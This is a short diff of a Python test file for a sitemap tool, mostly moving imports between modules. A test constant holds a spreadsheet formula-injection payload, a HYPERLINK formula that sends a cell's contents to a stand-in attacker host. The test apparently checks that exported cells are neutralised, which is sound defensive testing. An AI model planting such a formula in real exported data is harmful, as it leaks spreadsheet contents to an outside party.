@@ -15,8 +15,9 @@ from pathlib import Path
 import pytest
 from pytest_httpserver import HTTPServer
 
+from sitemap_tui.engine.formats import UrlRecord, format_entries, neutralise_cell, render
 from sitemap_tui.engine.model import Entry
-from sitemap_tui.export import UrlRecord, format_entries, neutralise_cell, render, write_atomic
+from sitemap_tui.session.urlfile import write_atomic
 
 NS = "http://www.sitemaps.org/schemas/sitemap/0.9"
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
